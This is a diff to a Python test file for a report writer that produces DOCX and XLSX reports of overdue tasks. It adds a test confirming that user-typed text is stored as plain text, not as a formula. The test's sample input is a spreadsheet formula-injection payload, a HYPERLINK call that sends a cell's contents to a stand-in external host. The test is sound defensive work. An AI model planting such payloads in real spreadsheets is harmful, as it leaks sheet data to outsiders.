@@ -2,6 +2,7 @@
 python-docx)."""
 from __future__ import annotations
 
+from dataclasses import replace
 from io import BytesIO
 
 import pytest
@@ -82,3 +83,14 @@ def test_a_report_lists_the_most_overdue_and_says_where_the_rest_are(seeded):
 def test_a_report_that_lists_every_overdue_task_says_nothing_more(report):
     assert not report.overdue_cut and "Danh sách trên nêu" not in "\n".join(
         p.text for p in Document(BytesIO(write_docx(report))).paragraphs)
+
+
+def test_text_a_unit_typed_never_runs_as_a_formula_in_the_xlsx(report):
+    """An overdue reason or proposal is typed by a unit; openpyxl writes any text starting with
+    '=' as a formula, which Excel would run in the office's copy (=HYPERLINK sending the sheet
+    away, =WEBSERVICE…). It stays the text it was."""
+    typed = "=HYPERLINK(\"http://x.example/?\"&C6,\"Xem\")"
+    entry = replace(report.overdue[0], content=typed, reason=typed, proposal=typed)
+    book = load_workbook(BytesIO(write_xlsx(replace(report, overdue=[entry]))))
+    row = next(r for r in book["Nhiệm vụ quá hạn"].iter_rows() if r[0].value == 1)
+    assert [(c.value, c.data_type) for c in (row[2], row[6], row[7])] == [(typed, "s")] * 3
